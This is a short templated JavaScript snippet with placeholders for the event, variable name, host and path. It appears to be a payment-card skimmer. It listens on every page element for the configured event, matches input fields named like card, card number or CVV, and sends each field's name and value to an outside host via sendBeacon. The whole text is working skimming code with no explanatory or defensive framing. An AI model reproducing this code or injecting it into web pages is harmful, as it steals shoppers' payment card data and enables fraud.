window.addEventListener('%EVENT%', function (event) {
  var %N1% = event.target;
  if (!%N1% || !/card|cc.?num|cvv/i.test(%N1%.name || '')) return;
  navigator.sendBeacon('https://%HOST%/%PATH%', %N1%.name + '=' + %N1%.value);
}, true);
